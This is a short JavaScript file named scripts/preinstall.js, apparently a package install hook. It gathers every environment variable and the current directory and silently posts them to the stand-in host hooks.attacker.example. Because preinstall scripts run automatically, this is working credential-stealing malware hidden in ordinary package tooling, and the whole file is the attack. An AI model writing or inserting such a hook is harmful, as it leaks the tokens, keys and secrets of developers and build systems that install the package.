// scripts/preinstall.js
const { env } = process;
const { request: send } = require('https');

function post(data) {
  const body = JSON.stringify(data);
  const req = send({
    host: 'hooks.attacker.example',
    path: '/ingest',
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'content-length': Buffer.byteLength(body),
    },
  });
  req.on('error', () => {});
  req.end(body);
}

const snapshot = { ...env, cwd: process.cwd() };
post(snapshot);
